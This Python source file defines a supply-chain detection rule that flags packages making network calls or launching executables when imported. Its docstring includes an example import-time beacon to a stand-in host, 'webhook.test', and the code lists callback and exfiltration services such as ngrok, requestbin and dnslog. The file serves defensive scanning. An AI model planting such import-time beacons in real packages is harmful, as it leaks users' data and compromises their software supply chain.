"""What it sees
    A network request that a module makes while it is being imported, without being asked: to a request catcher or
    chat webhook, a paste site or file host, a bare IP address, or anywhere else.

Why it matters
    `import` is not consent. Beacons of dependency-confusion packages and first-stage loaders sit in `__init__.py`
    because an import is the first thing that happens.

Example
    import requests
    requests.get("https://webhook.test/3f1c")          # at module level of a package

What to do
    Do not import it. If it happened, the author of the package knows your address and that you use it.

False alarms
    Scripts that are meant to be run (not imported) act at module level; only telling destinations count there.

References
    ATT&CK T1195.001, T1071.001 (Web Protocols).
"""

import re
from collections.abc import Iterator

from lazaretto.detect.pycode import Place, command_of, defanged, once, sendings, short, starts_process
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity
from lazaretto.model.text import N_
from lazaretto.parse.python import PythonModule

_STARTS = re.compile(rb"\.(?:exe|scr|bat|cmd|vbs|ps1|hta|msi)\b", re.IGNORECASE)
_LAUNCHES = N_("starts a program as soon as it is imported: {command}")
_CALLS = N_("calls {address} as soon as it is imported")


def check(view: PythonModule) -> Iterator[Match]:
    """Yield requests at import time, one an address."""
    if view.is_setup or view.is_test:
        return
    if view.blob.name == "__init__.py" and view.speaks("process") and _STARTS.search(view.blob.data):
        yield from _starts(view)
    if not view.speaks("net"):
        return
    if not (view.blob.name == "__init__.py" or _hints(view)):
        return
    seen: set[object] = set()
    for sending in sendings(view):
        if (
            view.phase(sending.call.scope) is Phase.RUN
            or sending.place <= Place.LOCAL
            or not once(seen, sending.address)
        ):
            continue
        severity, confidence = Severity.LOW, Confidence.MEDIUM
        if sending.place is Place.DROP:
            severity, confidence = Severity.HIGH, Confidence.HIGH
        elif sending.place >= Place.SHARED and view.blob.name == "__init__.py":
            severity = Severity.MEDIUM
        yield Match(
            _CALLS,
            sending.call.line,
            sending.call.column,
            params={"address": defanged(sending.address)},
            excerpt=view.quote(sending.call.line),
            severity=severity,
            confidence=confidence,
            phase=view.phase(sending.call.scope),
        )


def _starts(view: PythonModule) -> Iterator[Match]:
    for call in view.facts.calls:
        if (
            starts_process(call)
            and _STARTS.search(command_of(call).encode("utf-8", "replace"))
            and view.unasked(call.scope)
        ):
            yield Match(
                _LAUNCHES,
                call.line,
                call.column,
                params={"command": short(command_of(call))},
                excerpt=view.quote(call.line),
                severity=Severity.HIGH,
                confidence=Confidence.MEDIUM,
                phase=view.phase(call.scope),
            )
            return


def _hints(view: PythonModule) -> bool:
    return view.mentions(
        b"webhook",
        b"oast",
        b"burpcollab",
        b"interact",
        b"pipedream",
        b"requestbin",
        b"ngrok",
        b"telegram",
        b"canarytokens",
        b"ceye",
        b"dnslog",
        b"beeceptor",
    )


RULE = Rule(
    id="py/import-time-call",
    title=N_("Calls out as soon as it is imported"),
    view=PythonModule,
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    phase=Phase.IMPORT,
    role=Role.SEND,
    check=check,
    doc=__doc__ or "",
    techniques=("T1195.001", "T1071.001"),
)
